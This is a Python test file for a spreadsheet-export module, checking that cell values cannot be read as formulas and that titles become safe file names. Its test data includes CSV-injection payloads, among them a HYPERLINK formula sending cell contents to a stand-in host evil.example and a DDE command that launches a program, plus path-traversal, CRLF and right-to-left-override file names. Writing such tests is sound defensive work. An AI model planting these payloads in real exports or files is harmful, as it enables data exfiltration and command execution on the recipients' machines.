"""Cells that no spreadsheet calculates, and names of files."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from respondeo.domain.spreadsheets import file_name, safe_cell

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "﹦1",
    "\u3000＝1",
    "−1",
    '"=1',
    "'=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_could_be_a_formula_is_text(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("sign", ["\t", "\r", "\n"])
def test_a_cell_never_begins_with_a_tab_or_a_new_line(sign: str) -> None:
    assert safe_cell(f"{sign}plain") == f"'{sign}plain"
    assert safe_cell(f"{sign}=1") == f"'{sign}'=1"


@pytest.mark.parametrize("text", ["x;=1", "x; =1", "x\t=1", "x\n=1", 'x";"=1', "x|@y"])
def test_another_separator_than_the_comma_begins_no_formula(text: str) -> None:
    safe = safe_cell(text)
    assert safe.replace("'", "", 1) == text
    assert not re.search(r"[;|\t\n][\s\"]*[=@]", safe)


@pytest.mark.parametrize(
    "text", ["", "Ada Player", "a = b", "3 - 2", "x@y", "O'Neill", "ما هي؟", "日本", "a; b", "½"]
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@given(st.text())
def test_no_text_loses_a_character(text: str) -> None:
    assert safe_cell(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("World capitals", "World capitals attempts.csv"),
        ("../../etc/passwd", "etc passwd attempts.csv"),
        ('a"b\\c:d*e?f<g>h|i', "a b c d e f g h i attempts.csv"),
        ("Ríos\r\nX-Evil: 1", "Ríos X Evil 1 attempts.csv"),
        ("日本の山", "日本の山 attempts.csv"),
        ("\u202egpj.exe", "gpj exe attempts.csv"),
        ("???", "Quiz attempts.csv"),
    ],
)
def test_a_title_makes_a_name_that_every_system_takes(title: str, name: str) -> None:
    assert file_name(title, "attempts.csv") == name
